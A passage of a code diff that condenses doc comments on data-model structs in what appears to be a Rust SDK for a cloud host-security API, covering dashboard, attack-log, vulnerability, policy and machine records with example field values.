+    /// `Title`; example: `"发现**漏洞"`
     pub title: String,
 
-    /// `Level`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `Level`; example: `1`
     pub level: u64,
 
-    /// `Time`: a string.
-    ///
-    /// Example: `"2021-03-30 19:17:28"`
+    /// `Time`; example: `"2021-03-30 19:17:28"`
     pub time: String,
 
-    /// `Id`: an unsigned 64-bit integer.
-    ///
-    /// Example: `10003`
+    /// `Id`; example: `10003`
     pub id: u64,
 }
 
@@ -12668,54 +8255,34 @@ pub struct ScreenBroadcasts {
 /// Returned in the output of [`DescribeScreenHostInvasion`](super::DescribeScreenHostInvasion).
 #[tc_model]
 pub struct ScreenDefendAttackLog {
-    /// `Id`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `Id`; example: `1`
     pub id: u64,
 
-    /// `Uuid`: a string.
-    ///
-    /// Example: `"e5b4724c-49af-46ab-bd84-cdbae897e7e0"`
+    /// `Uuid`; example: `"e5b4724c-49af-46ab-bd84-cdbae897e7e0"`
     pub uuid: String,
 
-    /// `SrcIp`: a string.
-    ///
-    /// Example: `"120.22.1.22"`
+    /// `SrcIp`; example: `"120.22.1.22"`
     pub src_ip: String,
 
-    /// `SrcPort`: an unsigned 64-bit integer.
-    ///
-    /// Example: `546`
+    /// `SrcPort`; example: `546`
     pub src_port: u64,
 
-    /// `HttpMethod`: a string.
-    ///
-    /// Example: `"POST"`
+    /// `HttpMethod`; example: `"POST"`
     pub http_method: String,
 
-    /// `VulType`: a string.
-    ///
-    /// Example: `"CMD-EXEC"`
+    /// `VulType`; example: `"CMD-EXEC"`
     pub vul_type: String,
 
-    /// `CreatedTime`: a string.
-    ///
-    /// Example: `"2021-03-30 19:17:28"`
+    /// `CreatedTime`; example: `"2021-03-30 19:17:28"`
     pub created_time: String,
 
-    /// `DstPort`: an unsigned 64-bit integer.
-    ///
-    /// Example: `2343`
+    /// `DstPort`; example: `2343`
     pub dst_port: u64,
 
-    /// `Quuid`: a string.
-    ///
-    /// Example: `"e5b4724c-49af-46ab-bd84-cdbae897e7e0"`
+    /// `Quuid`; example: `"e5b4724c-49af-46ab-bd84-cdbae897e7e0"`
     pub quuid: String,
 
-    /// `DstIp`: a string.
-    ///
-    /// Example: `"120.22.1.22"`
+    /// `DstIp`; example: `"120.22.1.22"`
     pub dst_ip: String,
 }
 
@@ -12724,19 +8291,13 @@ pub struct ScreenDefendAttackLog {
 /// Returned in the output of [`DescribeScreenEmergentMsg`](super::DescribeScreenEmergentMsg).
 #[tc_model]
 pub struct ScreenEmergentMsg {
-    /// `Title`: a string.
-    ///
-    /// Example: `"紧急通知"`
+    /// `Title`; example: `"紧急通知"`
     pub title: String,
 
-    /// `Text`: a string.
-    ///
-    /// Example: `"发现漏洞"`
+    /// `Text`; example: `"发现漏洞"`
     pub text: String,
 
-    /// `Type`: an unsigned 64-bit integer.
-    ///
-    /// Example: `0`
+    /// `Type`; example: `0`
     pub r#type: u64,
 }
 
@@ -12745,17 +8306,13 @@ pub struct ScreenEmergentMsg {
 /// Returned in the output of [`DescribeScreenEventsCnt`](super::DescribeScreenEventsCnt).
 #[tc_model]
 pub struct ScreenEventsCnt {
-    /// `Title`: a string.
-    ///
-    /// Example: `"待处理风险总数"`
+    /// `Title`; example: `"待处理风险总数"`
     pub title: String,
 
-    /// `Total`: an unsigned 64-bit integer.
-    ///
-    /// Example: `12`
+    /// `Total`; example: `12`
     pub total: u64,
 
-    /// `Category`: a list of [`ScreenNameValue`] objects.
+    /// `Category`
     pub category: Vec<ScreenNameValue>,
 }
 
@@ -12764,37 +8321,25 @@ pub struct ScreenEventsCnt {
 /// Returned in the output of [`DescribeScreenHostInvasion`](super::DescribeScreenHostInvasion).
 #[tc_model]
 pub struct ScreenInvasion {
-    /// `CreatedTime`: a string.
-    ///
-    /// Example: `"2021-03-30 19:17:28"`
+    /// `CreatedTime`; example: `"2021-03-30 19:17:28"`
     pub created_time: String,
 
-    /// `EventType`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `EventType`; example: `1`
     pub event_type: u64,
 
-    /// `Content`: a string.
+    /// `Content`
     pub content: String,
 
-    /// `Level`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `Level`; example: `1`
     pub level: u64,
 
-    /// `LevelZh`: a string.
-    ///
-    /// Example: `"高危"`
+    /// `LevelZh`; example: `"高危"`
     pub level_zh: String,
 
-    /// `Id`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `Id`; example: `1`
     pub id: u64,
 
-    /// `Uuid`: a string.
-    ///
-    /// Example: `"e5b4724c-49af-46ab-bd84-cdbae897e7e0"`
+    /// `Uuid`; example: `"e5b4724c-49af-46ab-bd84-cdbae897e7e0"`
     pub uuid: String,
 }
 
@@ -12803,107 +8348,67 @@ pub struct ScreenInvasion {
 /// Returned in the output of [`DescribeScreenMachines`](super::DescribeScreenMachines).
 #[tc_model]
 pub struct ScreenMachine {
-    /// `MachineName`: a string.
-    ///
-    /// Example: `"性能安全"`
+    /// `MachineName`; example: `"性能安全"`
     pub machine_name: String,
 
-    /// `MachineOs`: a string.
-    ///
-    /// Example: `"centos"`
+    /// `MachineOs`; example: `"centos"`
     pub machine_os: String,
 
-    /// `Uuid`: a string.
-    ///
-    /// Example: `"d99a1b46-cc2d-4633-a11f-4a7663d2523e"`
+    /// `Uuid`; example: `"d99a1b46-cc2d-4633-a11f-4a7663d2523e"`
     pub uuid: String,
 
-    /// `MachineStatus`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `MachineStatus`; example: `1`
     pub machine_status: u64,
 
-    /// `Quuid`: a string.
-    ///
-    /// Example: `"d99a1b46-cc2d-4633-a11f-4a7663d2523e"`
+    /// `Quuid`; example: `"d99a1b46-cc2d-4633-a11f-4a7663d2523e"`
     pub quuid: String,
 
-    /// `VulNum`: a signed 64-bit integer.
-    ///
-    /// Example: `2`
+    /// `VulNum`; example: `2`
     pub vul_num: i64,
 
-    /// `MachineIp`: a string.
-    ///
-    /// Example: `"10.0.0.2"`
+    /// `MachineIp`; example: `"10.0.0.2"`
     pub machine_ip: String,
 
-    /// `MachineWanIp`: a string.
-    ///
-    /// Example: `"114.11.12.13"`
+    /// `MachineWanIp`; example: `"114.11.12.13"`
     pub machine_wan_ip: String,
 
-    /// `BaselineNum`: a signed 64-bit integer.
-    ///
-    /// Example: `2`
+    /// `BaselineNum`; example: `2`
     pub baseline_num: i64,
 
-    /// `CyberAttackNum`: a signed 64-bit integer.
-    ///
-    /// Example: `2`
+    /// `CyberAttackNum`; example: `2`
     pub cyber_attack_num: i64,
 
-    /// `SecurityStatus`: a string.
-    ///
-    /// Example: `"RISK"`
+    /// `SecurityStatus`; example: `"RISK"`
     pub security_status: String,
 
-    /// `InvasionNum`: a signed 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `InvasionNum`; example: `1`
     pub invasion_num: i64,
 
-    /// `MachineType`: a string.
-    ///
-    /// Example: `"CVM"`
+    /// `MachineType`; example: `"CVM"`
     pub machine_type: String,
 
-    /// `CpuLoad`: a string.
-    ///
-    /// Example: `"低"`
+    /// `CpuLoad`; example: `"低"`
     pub cpu_load: String,
 
-    /// `CpuSize`: a floating-point number.
-    ///
-    /// Example: `1`
+    /// `CpuSize`; example: `1`
     pub cpu_size: f64,
 
-    /// `DiskLoad`: a string.
-    ///
-    /// Example: `"10.60"`
+    /// `DiskLoad`; example: `"10.60"`
     pub disk_load: String,
 
-    /// `DiskSize`: a floating-point number.
-    ///
-    /// Example: `40`
+    /// `DiskSize`; example: `40`
     pub disk_size: f64,
 
-    /// `MemLoad`: a string.
-    ///
-    /// Example: `"18.66"`
+    /// `MemLoad`; example: `"18.66"`
     pub mem_load: String,
 
-    /// `MemSize`: a floating-point number.
-    ///
-    /// Example: `2`
+    /// `MemSize`; example: `2`
     pub mem_size: f64,
 
-    /// `CoreVersion`: a string.
-    ///
-    /// Example: `"3.10.0-1127.19.1.el7.x86_64"`
+    /// `CoreVersion`; example: `"3.10.0-1127.19.1.el7.x86_64"`
     pub core_version: String,
 
-    /// `MachineExtraInfo`: a [`MachineExtraInfo`].
+    /// `MachineExtraInfo`
     pub machine_extra_info: MachineExtraInfo,
 }
 
@@ -12912,14 +8417,10 @@ pub struct ScreenMachine {
 /// Returned in the output of [`DescribeScreenEventsCnt`](super::DescribeScreenEventsCnt), [`DescribeScreenGeneralStat`](super::DescribeScreenGeneralStat) and [`DescribeScreenRiskAssetsTop`](super::DescribeScreenRiskAssetsTop).
 #[tc_model]
 pub struct ScreenNameValue {
-    /// `Name`: a string.
-    ///
-    /// Example: `"离线/关机"`
+    /// `Name`; example: `"离线/关机"`
     pub name: String,
 
-    /// `Value`: an unsigned 64-bit integer.
-    ///
-    /// Example: `12`
+    /// `Value`; example: `12`
     pub value: u64,
 }
 
@@ -12928,14 +8429,10 @@ pub struct ScreenNameValue {
 /// Returned in the output of [`DescribeScreenProtectionStat`](super::DescribeScreenProtectionStat).
 #[tc_model]
 pub struct ScreenProtection {
-    /// `Name`: a string.
-    ///
-    /// Example: `"文件查杀"`
+    /// `Name`; example: `"文件查杀"`
     pub name: String,
 
-    /// `Status`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `Status`; example: `1`
     pub status: u64,
 }
 
@@ -12944,19 +8441,13 @@ pub struct ScreenProtection {
 /// Returned in the output of [`DescribeScreenProtectionCnt`](super::DescribeScreenProtectionCnt).
 #[tc_model]
 pub struct ScreenProtectionCnt {
-    /// `Type`: a string.
-    ///
-    /// Example: `"cloud"`
+    /// `Type`; example: `"cloud"`
     pub r#type: String,
 
-    /// `Name`: a string.
-    ///
-    /// Example: `"威胁情报"`
+    /// `Name`; example: `"威胁情报"`
     pub name: String,
 
-    /// `Count`: an unsigned 64-bit integer.
-    ///
-    /// Example: `12`
+    /// `Count`; example: `12`
     pub count: u64,
 }
 
@@ -12965,29 +8456,19 @@ pub struct ScreenProtectionCnt {
 /// Returned in the output of [`DescribeScreenMachineRegions`](super::DescribeScreenMachineRegions).
 #[tc_model]
 pub struct ScreenRegionInfo {
-    /// `Region`: a string.
-    ///
-    /// Example: `"ap-guangzhou"`
+    /// `Region`; example: `"ap-guangzhou"`
     pub region: String,
 
-    /// `RegionName`: a string.
-    ///
-    /// Example: `"华南地区（广州）"`
+    /// `RegionName`; example: `"华南地区（广州）"`
     pub region_name: String,
 
-    /// `RegionId`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `RegionId`; example: `1`
     pub region_id: u64,
 
-    /// `RegionCode`: a string.
-    ///
-    /// Example: `"gz"`
+    /// `RegionCode`; example: `"gz"`
     pub region_code: String,
 
-    /// `RegionNameEn`: a string.
-    ///
-    /// Example: `"South China (Guangzhou)"`
+    /// `RegionNameEn`; example: `"South China (Guangzhou)"`
     pub region_name_en: String,
 }
 
@@ -12996,47 +8477,31 @@ pub struct ScreenRegionInfo {
 /// Returned in the output of [`DescribeScreenMachines`](super::DescribeScreenMachines).
 #[tc_model]
 pub struct ScreenRegionMachines {
-    /// `Region`: a string.
-    ///
-    /// Example: `"ap-bangkok"`
+    /// `Region`; example: `"ap-bangkok"`
     pub region: String,
 
-    /// `RegionName`: a string.
-    ///
-    /// Example: `"华南地区 (广州)"`
+    /// `RegionName`; example: `"华南地区 (广州)"`
     pub region_name: String,
 
-    /// `Machines`: a list of [`ScreenMachine`] objects.
+    /// `Machines`
     pub machines: Vec<ScreenMachine>,
 
-    /// `TotalCount`: an unsigned 64-bit integer.
-    ///
-    /// Example: `34`
+    /// `TotalCount`; example: `34`
     pub total_count: u64,
 
-    /// `RiskCnt`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `RiskCnt`; example: `1`
     pub risk_cnt: u64,
 
-    /// `AttackCnt`: an unsigned 64-bit integer.
-    ///
-    /// Example: `12`
+    /// `AttackCnt`; example: `12`
     pub attack_cnt: u64,
 
-    /// `SafetyCnt`: an unsigned 64-bit integer.
-    ///
-    /// Example: `12`
+    /// `SafetyCnt`; example: `12`
     pub safety_cnt: u64,
 
-    /// `UnAgentOfflineCnt`: an unsigned 64-bit integer.
-    ///
-    /// Example: `12`
+    /// `UnAgentOfflineCnt`; example: `12`
     pub un_agent_offline_cnt: u64,
 
-    /// `IgnoreCnt`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `IgnoreCnt`; example: `1`
     pub ignore_cnt: u64,
 }
 
@@ -13045,19 +8510,13 @@ pub struct ScreenRegionMachines {
 /// Returned in the output of [`DescribeScreenDefenseTrends`](super::DescribeScreenDefenseTrends).
 #[tc_model]
 pub struct ScreenTrendsChart {
-    /// `X`: a string.
-    ///
-    /// Example: `"2021-03-30 19:17:28"`
+    /// `X`; example: `"2021-03-30 19:17:28"`
     pub x: String,
 
-    /// `Y`: an unsigned 64-bit integer.
-    ///
-    /// Example: `12`
+    /// `Y`; example: `12`
     pub y: u64,
 
-    /// `Type`: a string.
-    ///
-    /// Example: `"防御次数"`
+    /// `Type`; example: `"防御次数"`
     pub r#type: String,
 }
 
@@ -13066,39 +8525,25 @@ pub struct ScreenTrendsChart {
 /// Returned in the output of [`DescribeScreenHostInvasion`](super::DescribeScreenHostInvasion).
 #[tc_model]
 pub struct ScreenVulInfo {
-    /// `Id`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `Id`; example: `1`
     pub id: u64,
 
-    /// `Name`: a string.
-    ///
-    /// Example: `"git注入"`
+    /// `Name`; example: `"git注入"`
     pub name: String,
 
-    /// `VulId`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `VulId`; example: `1`
     pub vul_id: u64,
 
-    /// `LastTime`: a string.
-    ///
-    /// Example: `"2021-03-16 16:21:51"`
+    /// `LastTime`; example: `"2021-03-16 16:21:51"`
     pub last_time: String,
 
-    /// `Level`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `Level`; example: `1`
     pub level: u64,
 
-    /// `Category`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `Category`; example: `1`
     pub category: u64,
 
-    /// `Uuid`: a string.
-    ///
-    /// Example: `"e5b4724c-49af-46ab-bd84-cdbae897e7e0"`
+    /// `Uuid`; example: `"e5b4724c-49af-46ab-bd84-cdbae897e7e0"`
     pub uuid: String,
 }
 
@@ -13108,37 +8553,28 @@ pub struct ScreenVulInfo {
 /// Returned in the output of [`DescribeSearchTemplates`](super::DescribeSearchTemplates).
 #[tc_model]
 pub struct SearchTemplate {
-    /// `Name`: a string.
+    /// `Name`
     pub name: String,
 
-    /// `LogType`: a string.
+    /// `LogType`
     pub log_type: String,
 
-    /// `Condition`: a string.
-    ///
-    /// Example: `"count 等于数值****"`
+    /// `Condition`; example: `"count 等于数值****"`
     pub condition: String,
 
-    /// `TimeRange`: a string.
-    ///
-    /// Example: `"2021-11-11 00:00:00 至 2021-11-11 23:5****"`
+    /// `TimeRange`; example: `"2021-11-11 00:00:00 至 2021-11-11 23:5****"`
     pub time_range: String,
 
-    /// `Query`: a string.
+    /// `Query`
     pub query: String,
 
-    /// `Flag`: a string.
-    ///
-    /// Example: `"simple"`
+    /// `Flag`; example: `"simple"`
     pub flag: String,
 
-    /// `DisplayData`: a string.
+    /// `DisplayData`
     pub display_data: String,
 
-    /// `Id`: an unsigned 64-bit integer.
-    /// Always sent in responses.
-    ///
-    /// Example: `198`
+    /// `Id`, always sent in responses; example: `198`
     pub id: Option<u64>,
 }
 
@@ -13147,29 +8583,19 @@ pub struct SearchTemplate {
 /// Returned in the output of [`DescribeSecurityDynamics`](super::DescribeSecurityDynamics).
 #[tc_model]
 pub struct SecurityDynamic {
-    /// `Uuid`: a string.
-    ///
-    /// Example: `"uuid"`
+    /// `Uuid`; example: `"uuid"`
     pub uuid: String,
 
-    /// `EventTime`: a date and time, as the service writes it.
-    ///
-    /// Example: `"2018-01-01 00:00:00"`
+    /// `EventTime`, a date and time as the service writes it; example: `"2018-01-01 00:00:00"`
     pub event_time: String,
 
-    /// `EventType`: a string.
-    ///
-    /// Example: `"BASELINE"`
+    /// `EventType`; example: `"BASELINE"`
     pub event_type: String,
 
-    /// `Message`: a string.
-    ///
-    /// Example: `"事件消息"`
+    /// `Message`; example: `"事件消息"`
     pub message: String,
 
-    /// `SecurityLevel`: a string.
-    ///
-    /// Example: `"High"`
+    /// `SecurityLevel`; example: `"High"`
     pub security_level: String,
 }
 
@@ -13178,14 +8604,10 @@ pub struct SecurityDynamic {
 /// Returned in the output of [`DescribeSecurityEventsCnt`](super::DescribeSecurityEventsCnt).
 #[tc_model]
 pub struct SecurityEventInfo {
-    /// `EventCnt`: an unsigned 64-bit integer.
-    ///
-    /// Example: `37`
+    /// `EventCnt`; example: `37`
     pub event_cnt: u64,
 
-    /// `UuidCnt`: an unsigned 64-bit integer.
-    ///
-    /// Example: `6`
+    /// `UuidCnt`; example: `6`
     pub uuid_cnt: u64,
 }
 
@@ -13194,14 +8616,10 @@ pub struct SecurityEventInfo {
 /// Returned in the output of [`DescribeSecurityTrends`](super::DescribeSecurityTrends).
 #[tc_model]
 pub struct SecurityTrend {
-    /// `Date`: a date (`YYYY-MM-DD`).
-    ///
-    /// Example: `"2023-07-11"`
+    /// `Date`, a date (`YYYY-MM-DD`); example: `"2023-07-11"`
     pub date: String,
 
-    /// `EventNum`: an unsigned 64-bit integer.
-    ///
-    /// Example: `10`
+    /// `EventNum`; example: `10`
     pub event_num: u64,
 }
 
@@ -13210,44 +8628,28 @@ pub struct SecurityTrend {
 /// Returned in the output of [`DescribeShellPolicyList`](super::DescribeShellPolicyList).
 #[tc_model]
 pub struct ShellPolicyList {
-    /// `PolicyId`: an unsigned 64-bit integer.
-    ///
-    /// Example: `2001`
+    /// `PolicyId`; example: `2001`
     pub policy_id: Option<u64>,
 
-    /// `PolicyName`: a string.
-    ///
-    /// Example: `"系统自动拦截策略"`
+    /// `PolicyName`; example: `"系统自动拦截策略"`
     pub policy_name: Option<String>,
 
-    /// `PolicyType`: an unsigned 64-bit integer.
-    ///
-    /// Example: `0`
+    /// `PolicyType`; example: `0`
     pub policy_type: Option<u64>,
 
-    /// `PolicyDesc`: a string.
-    ///
-    /// Example: `"''"`
+    /// `PolicyDesc`; example: `"''"`
     pub policy_desc: Option<String>,
 
-    /// `PolicyAction`: an unsigned 64-bit integer.
-    ///
-    /// Example: `0`
+    /// `PolicyAction`; example: `0`
     pub policy_action: Option<u64>,
 
-    /// `IsEnabled`: an unsigned 64-bit integer.
-    ///
-    /// Example: `0`
+    /// `IsEnabled`; example: `0`
     pub is_enabled: Option<u64>,
 
-    /// `UpdateTime`: a string.
-    ///
-    /// Example: `"0000-00-00 00:00:00"`
+    /// `UpdateTime`; example: `"0000-00-00 00:00:00"`
     pub update_time: Option<String>,
 
-    /// `HostScope`: an unsigned 64-bit integer.
-    ///
-    /// Example: `2`
+    /// `HostScope`; example: `2`
     pub host_scope: Option<u64>,
 }
 
@@ -13256,33 +8658,25 @@ pub struct ShellPolicyList {
 /// Returned in the output of [`DescribeSkillInfo`](super::DescribeSkillInfo).
 #[tc_model]
 pub struct SkillInfo {
-    /// `SkillName`: a string.
-    ///
-    /// Example: `"insider-wallets-finder"`
+    /// `SkillName`; example: `"insider-wallets-finder"`
     pub skill_name: String,
 
-    /// `SkillDesc`: a string.
+    /// `SkillDesc`
     pub skill_desc: String,
 
-    /// `SkillSource`: a string.
-    ///
-    /// Example: `"htt*************a*/hightower6eu/insider-wallets-finder-firui"`
+    /// `SkillSource`; example: `"htt*************a*/hightower6eu/insider-wallets-finder-firui"`
     pub skill_source: String,
 
-    /// `Tags`: a list of strings.
-    ///
-    /// Example: `["代码混淆"]`
+    /// `Tags`; example: `["代码混淆"]`
     pub tags: Vec<String>,
 
-    /// `RiskDesc`: a string.
+    /// `RiskDesc`
     pub risk_desc: String,
 
-    /// `Evidence`: a string.
+    /// `Evidence`
     pub evidence: String,
 
-    /// `Id`: an unsigned 64-bit integer.
-    ///
-    /// Example: `2265573`
+    /// `Id`; example: `2265573`
     pub id: u64,
 }
 
@@ -13291,9 +8685,7 @@ pub struct SkillInfo {
 /// Returned in the output of [`DescribeBanMode`](super::DescribeBanMode).
 #[tc_model]
 pub struct StandardModeConfig {
-    /// `Ttl`: an unsigned 64-bit integer.
-    ///
-    /// Example: `300`
+    /// `Ttl`; example: `300`
     pub ttl: u64,
 }
 
@@ -13302,54 +8694,34 @@ pub struct StandardModeConfig {
 /// Returned in the output of [`DescribeBaselineStrategyList`](super::DescribeBaselineStrategyList).
 #[tc_model]
 pub struct Strategy {
-    /// `StrategyName`: a string.
-    ///
-    /// Example: `"安全中心一键体检弱****"`
+    /// `StrategyName`; example: `"安全中心一键体检弱****"`
     pub strategy_name: String,
 
-    /// `StrategyId`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1089429`
+    /// `StrategyId`; example: `1089429`
     pub strategy_id: u64,
 
-    /// `RuleCount`: an unsigned 64-bit integer.
-    ///
-    /// Example: `9`
+    /// `RuleCount`; example: `9`
     pub rule_count: u64,
 
-    /// `HostCount`: an unsigned 64-bit integer.
-    ///
-    /// Example: `42`
+    /// `HostCount`; example: `42`
     pub host_count: u64,
 
-    /// `ScanCycle`: an unsigned 64-bit integer.
-    ///
-    /// Example: `7`
+    /// `ScanCycle`; example: `7`
     pub scan_cycle: u64,
 
-    /// `ScanAt`: a string.
-    ///
-    /// Example: `"01:35:30"`
+    /// `ScanAt`; example: `"01:35:30"`
     pub scan_at: String,
 
-    /// `Enabled`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `Enabled`; example: `1`
     pub enabled: u64,
 
-    /// `PassRate`: an unsigned 64-bit integer.
-    ///
-    /// Example: `100`
+    /// `PassRate`; example: `100`
     pub pass_rate: u64,
 
-    /// `CategoryIds`: a string.
-    ///
-    /// Example: `"1"`
+    /// `CategoryIds`; example: `"1"`
     pub category_ids: String,
 
-    /// `IsDefault`: an unsigned 64-bit integer.
-    ///
-    /// Example: `0`
+    /// `IsDefault`; example: `0`
     pub is_default: u64,
 }
 
@@ -13358,19 +8730,13 @@ pub struct Strategy {
 /// Returned in the output of [`DescribeRansomDefenseMachineList`](super::DescribeRansomDefenseMachineList), [`DescribeRansomDefenseStrategyMachines`](super::DescribeRansomDefenseStrategyMachines) and [`DescribeTags`](super::DescribeTags).
 #[tc_model]
 pub struct Tag {
-    /// `Id`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `Id`; example: `1`
     pub id: u64,
 
-    /// `Name`: a string.
-    ///
-    /// Example: `"business1"`
+    /// `Name`; example: `"business1"`
     pub name: String,
 
-    /// `Count`: an unsigned 64-bit integer.
-    ///
-    /// Example: `100`
+    /// `Count`; example: `100`
     pub count: u64,
 }
 
@@ -13379,37 +8745,25 @@ pub struct Tag {
 /// Returned in the output of [`DescribeTagMachines`](super::DescribeTagMachines).
 #[tc_model]
 pub struct TagMachine {
-    /// `Id`: a string.
-    ///
-    /// Example: `"100"`
+    /// `Id`; example: `"100"`
     pub id: String,
 
-    /// `Quuid`: a string.
-    ///
-    /// Example: `"0096440e-9a9f-4e80-a82d-0b018637****"`
+    /// `Quuid`; example: `"0096440e-9a9f-4e80-a82d-0b018637****"`
     pub quuid: String,
 
-    /// `MachineName`: a string.
-    ///
-    /// Example: `"tcs-dev3"`
+    /// `MachineName`; example: `"tcs-dev3"`
     pub machine_name: String,
 
-    /// `MachineIp`: a string.
-    ///
-    /// Example: `"10.206.6****"`
+    /// `MachineIp`; example: `"10.206.6****"`
     pub machine_ip: String,
 
-    /// `MachineWanIp`: a string.
-    ///
-    /// Example: `"1.13.5****"`
+    /// `MachineWanIp`; example: `"1.13.5****"`
     pub machine_wan_ip: String,
 
-    /// `MachineRegion`: a string.
+    /// `MachineRegion`
     pub machine_region: String,
 
-    /// `MachineType`: a string.
-    ///
-    /// Example: `"CVM"`
+    /// `MachineType`; example: `"CVM"`
     pub machine_type: String,
 }
 
@@ -13419,14 +8773,10 @@ pub struct TagMachine {
 /// Returned in the output of [`DescribeHostInfo`](super::DescribeHostInfo), [`DescribeImportMachineInfo`](super::DescribeImportMachineInfo), [`DescribeLicenseList`](super::DescribeLicenseList), [`DescribeMachineList`](super::DescribeMachineList), [`DescribeMachines`](super::DescribeMachines), [`DescribeMachinesSimple`](super::DescribeMachinesSimple) and 2 more.
 #[tc_model]
 pub struct Tags {
-    /// `TagKey`: a string.
-    ///
-    /// Example: `"business1"`
+    /// `TagKey`; example: `"business1"`
     pub tag_key: String,
 
-    /// `TagValue`: a string.
-    ///
-    /// Example: `"businessValue"`
+    /// `TagValue`; example: `"businessValue"`
     pub tag_value: String,
 }
 
@@ -13435,24 +8785,16 @@ pub struct Tags {
 /// Returned in the output of [`DescribeScanTaskStatus`](super::DescribeScanTaskStatus).
 #[tc_model]
 pub struct TaskStatus {
-    /// `Scanning`: a string.
-    ///
-    /// Example: `"0"`
+    /// `Scanning`; example: `"0"`
     pub scanning: String,
 
-    /// `Ok`: a string.
-    ///
-    /// Example: `"0"`
+    /// `Ok`; example: `"0"`
     pub ok: String,
 
-    /// `Fail`: a string.
-    ///
-    /// Example: `"0"`
+    /// `Fail`; example: `"0"`
     pub fail: String,
 
-    /// `Stop`: a string.
-    ///
-    /// Example: `"0"`
+    /// `Stop`; example: `"0"`
     pub stop: String,
 }
 
@@ -13461,14 +8803,10 @@ pub struct TaskStatus {
 /// Returned in the output of [`DescribeAttackTop`](super::DescribeAttackTop).
 #[tc_model]
 pub struct TopInfo {
-    /// `Value`: a string.
-    ///
-    /// Example: `"DstPort"`
+    /// `Value`; example: `"DstPort"`
     pub value: String,
 
-    /// `Count`: an unsigned 64-bit integer.
-    ///
-    /// Example: `10`
+    /// `Count`; example: `10`
     pub count: u64,
 }
 
@@ -13477,37 +8815,25 @@ pub struct TopInfo {
 /// Sent in the input of [`ModifyLoginWhiteInfo`](super::ModifyLoginWhiteInfo).
 #[tc_model]
 pub struct UpdateHostLoginWhiteObj {
-    /// `Places`: a list of [`Place`] objects.
+    /// `Places`
     pub places: Vec<Place>,
 
-    /// `SrcIp`: a string.
-    ///
-    /// Example: `"1.2.3.4"`
+    /// `SrcIp`; example: `"1.2.3.4"`
     pub src_ip: String,
 
-    /// `UserName`: a string.
-    ///
-    /// Example: `"username"`
+    /// `UserName`; example: `"username"`
     pub user_name: String,
 
-    /// `Remark`: a string.
-    ///
-    /// Example: `"updateRemark1"`
+    /// `Remark`; example: `"updateRemark1"`
     pub remark: String,
 
-    /// `Id`: an unsigned 64-bit integer.
-    ///
-    /// Example: `128`
+    /// `Id`; example: `128`
     pub id: u64,
 
-    /// `StartTime`: a string.
-    ///
-    /// Example: `"2024-01-01 00:00:00"`
+    /// `StartTime`; example: `"2024-01-01 00:00:00"`
     pub start_time: Option<String>,
 
-    /// `EndTime`: a string.
-    ///
-    /// Example: `"2024-01-01 23:59:59"`
+    /// `EndTime`; example: `"2024-01-01 23:59:59"`
     pub end_time: Option<String>,
 }
 
@@ -13516,29 +8842,19 @@ pub struct UpdateHostLoginWhiteObj {
 /// Returned in the output of [`DescribeUsualLoginPlaces`](super::DescribeUsualLoginPlaces).
 #[tc_model]
 pub struct UsualPlace {
-    /// `Id`: an unsigned 64-bit integer.
-    ///
-    /// Example: `13267`
+    /// `Id`; example: `13267`
     pub id: u64,
 
-    /// `Uuid`: a string.
-    ///
-    /// Example: `"69E78F7F-FFC7-47D1-B406-13C9852******"`
+    /// `Uuid`; example: `"69E78F7F-FFC7-47D1-B406-13C9852******"`
     pub uuid: String,
 
-    /// `CountryId`: an unsigned 64-bit integer.
-    ///
-    /// Example: `2`
+    /// `CountryId`; example: `2`
     pub country_id: u64,
 
-    /// `ProvinceId`: an unsigned 64-bit integer.
-    ///
-    /// Example: `21`
+    /// `ProvinceId`; example: `21`
     pub province_id: u64,
 
-    /// `CityId`: an unsigned 64-bit integer.
-    ///
-    /// Example: `101`
+    /// `CityId`; example: `101`
     pub city_id: u64,
 }
 
@@ -13547,14 +8863,10 @@ pub struct UsualPlace {
 /// Returned in the output of [`DescribeMemShellRules`](super::DescribeMemShellRules) and [`DescribeReverseShellRulesAggregation`](super::DescribeReverseShellRulesAggregation).
 #[tc_model]
 pub struct UuidHostip {
-    /// `Uuid`: a string.
-    ///
-    /// Example: `"82727b6e-3676-4660-ac4e-c281dba1b23f"`
+    /// `Uuid`; example: `"82727b6e-3676-4660-ac4e-c281dba1b23f"`
     pub uuid: String,
 
-    /// `Hostip`: a string.
-    ///
-    /// Example: `"172.16.0.9"`
+    /// `Hostip`; example: `"172.16.0.9"`
     pub hostip: String,
 }
 
@@ -13563,24 +8875,16 @@ pub struct UuidHostip {
 /// Returned in the output of [`DescribeLogIndex`](super::DescribeLogIndex).
 #[tc_model]
 pub struct ValueInfo {
-    /// `Tokenizer`: a string.
-    ///
-    /// Example: `"tokenizer1"`
+    /// `Tokenizer`; example: `"tokenizer1"`
     pub tokenizer: String,
 
-    /// `Type`: a string.
-    ///
-    /// Example: `"type1"`
+    /// `Type`; example: `"type1"`
     pub r#type: String,
 
-    /// `SqlFlag`: a boolean.
-    ///
-    /// Example: `false`
+    /// `SqlFlag`; example: `false`
     pub sql_flag: bool,
 
-    /// `ContainZH`: a boolean.
-    ///
-    /// Example: `false`
+    /// `ContainZH`; example: `false`
     #[tc(rename = "ContainZH")]
     pub contain_zh: bool,
 }
@@ -13590,24 +8894,16 @@ pub struct ValueInfo {
 /// Returned in the output of [`DescribeLicenseWhiteConfig`](super::DescribeLicenseWhiteConfig).
 #[tc_model]
 pub struct VersionWhiteConfig {
-    /// `Deadline`: an unsigned 64-bit integer.
-    ///
